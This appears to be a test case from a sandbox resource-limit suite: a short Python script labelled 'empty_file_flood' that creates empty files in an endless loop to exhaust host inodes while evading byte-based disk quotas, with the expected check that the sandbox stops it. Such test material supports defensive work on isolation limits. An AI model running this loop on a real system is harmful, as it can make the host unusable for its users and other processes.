# attack: empty_file_flood
# class: 7
# category: host_read
# kind: disk_limit
# check: reason:disk_limit
# describe: create empty files until something stops it: they use no blocks, so a byte limit never sees them, but each one is a host inode
import os

os.makedirs("flood", exist_ok=True)
i = 0
while True:
    os.close(os.open(f"flood/{i}", os.O_WRONLY | os.O_CREAT, 0o644))
    i += 1
